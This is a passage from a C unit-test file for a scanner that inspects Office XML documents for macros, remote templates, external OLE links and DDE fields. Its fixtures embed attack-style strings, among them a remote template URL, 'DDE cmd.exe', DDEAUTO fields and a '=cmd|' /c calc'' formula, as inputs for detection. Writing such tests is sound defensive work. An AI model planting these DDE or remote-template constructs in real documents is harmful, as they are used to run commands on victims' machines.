	    "Document\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft."
	    "com/office/2006/xmlPackage\">"
	    "<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\" "
	    "pkg:contentType=\"application/vnd.openxmlformats-package."
	    "relationships+xml\"><pkg:xmlData>" OX_RELS
	    "<Relationship Id=\"rId1\" Type=\"" OX_RT "attachedTemplate\" "
	    "Target=\"https://192.0.2.3/t.dotm\" TargetMode=\"External\"/>"
	    "</Relationships></pkg:xmlData></pkg:part>"
	    "<pkg:part pkg:name=\"/word/document.xml\" pkg:contentType=\""
	    "application/vnd.ms-word.document.macroEnabled.main+xml\">"
	    "<pkg:xmlData><w:document " OX_W "><w:body><w:p><w:r>"
	    "<w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>"
	    "DDE cmd.exe</w:instrText></w:r></w:p></w:body></w:document>"
	    "</pkg:xmlData></pkg:part>"
	    "<pkg:part pkg:name=\"/word/vbaProject.bin\" pkg:contentType=\""
	    "application/vnd.ms-office.vbaProject\"><pkg:binaryData>0M8R4K"
	    "GxGuE=\n</pkg:binaryData></pkg:part></pkg:package>";
	static const uint8_t cfb[8] = {0xd0, 0xcf, 0x11, 0xe0,
	                               0xa1, 0xb1, 0x1a, 0xe1};
	ooxml_result_t r;

	ck_assert(ooxml_is_flat_xml((const uint8_t *)flat, strlen(flat)));
	ck_assert_int_eq(
	    ooxml_scan_flat_xml((const uint8_t *)flat, strlen(flat), &r),
	    EMG_OK);
	ck_assert_str_eq(r.app, "word");
	ck_assert(r.macro_enabled);
	ck_assert_uint_eq(r.external.n, 1);
	ck_assert_str_eq(r.external.v[0],
	                 "attachedTemplate https://192.0.2.3/t.dotm");
	ck_assert_uint_eq(r.dde.n, 1); /* an unterminated field still counts */
	ck_assert_str_eq(r.dde.v[0], "DDE cmd.exe");
	ox_assert_vba(&r, "word/vbaProject.bin", 8, cfb, sizeof(cfb));
	ooxml_result_free(&r);
}
END_TEST

/* Word 2003 XML with its ActiveMime macro blob; what is not Office XML. */
START_TEST(test_flat_word2003_and_others)
{
	static const char word[] =
	    "<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/"
	    "word/2003/wordml\" w:macrosPresent=\"no\"><w:docSuppData>"
	    "<w:binData w:name=\"editdata.mso\">QWN0aXZlTWltZQ==</w:binData>"
	    "</w:docSuppData><w:body><w:p><w:fldSimple w:instr=\"DDEAUTO "
	    "x\"/></w:p></w:body></w:wordDocument>";
	static const char *const not_office[] = {
	    "<html><body>DDEAUTO</body></html>",
	    "<Workbook><Cell Formula=\"=cmd|' /c calc'!A1\"/></Workbook>",
	    "%PDF-1.4",
	    "",
	    "<",
	    "<?xml version=\"1.0\"?>"};
	ooxml_result_t r;

	ck_assert(ooxml_is_flat_xml((const uint8_t *)word, strlen(word)));
	ck_assert_int_eq(
	    ooxml_scan_flat_xml((const uint8_t *)word, strlen(word), &r),
	    EMG_OK);
	ck_assert(r.macro_enabled);
	ck_assert_uint_eq(r.dde.n, 1);
	ooxml_result_free(&r);
	for (size_t i = 0; i < sizeof(not_office) / sizeof(not_office[0]);
	     i++) {
		const uint8_t *d = (const uint8_t *)not_office[i];
		size_t n = strlen(not_office[i]);

		ck_assert_msg(!ooxml_is_flat_xml(d, n), "%s", not_office[i]);
		ck_assert(!ooxml_is_package(d, n));
		ck_assert_int_eq(ooxml_scan_flat_xml(d, n, &r), EMG_OK);
		ck_assert_uint_eq(r.dde.n, 0);
		ck_assert_uint_gt(r.problems.n, 0);
		ooxml_result_free(&r);
	}
}
END_TEST

/* A list padded past OOXML_MAX_ITEMS keeps the first ones and says so. */
START_TEST(test_list_bound)
{
	char *rels = malloc(64 * 256 + 256);
	ooxml_result_t r;
	size_t o;

	ck_assert_ptr_nonnull(rels);
	o = (size_t)sprintf(rels, "%s", OX_RELS);
	for (int i = 0; i < 64; i++)
		o +=
		    (size_t)sprintf(rels + o,
		                    "<Relationship Id=\"r%d\" Type=\"" OX_RT
		                    "oleObject\" Target=\"http://192.0.2.1/%d\""
		                    " TargetMode=\"External\"/>",
		                    i, i);
	strcpy(rels + o, "</Relationships>");
	ox_scan_word("word/_rels/document.xml.rels", rels, &r);
	ck_assert_uint_eq(r.external.n, OOXML_MAX_ITEMS);
	ck_assert(ox_problem(&r, "more than 32 external"));
	ooxml_result_free(&r);
	free(rels);
}
END_TEST

TESTUTIL_MAIN("ooxml", test_corpus_table, test_corpus_external_link,
              test_corpus_dde_word, test_corpus_flat_word_sealed,
              test_corpus_vba_part, test_split_instr_dde, test_utf16_story,
              test_external_relationships, test_xml_bomb, test_part_budget,
              test_corrupt_zip, test_vba_by_content_type, test_xlm_hidden_sheet,
              test_flat_opc, test_flat_word2003_and_others, test_list_bound)
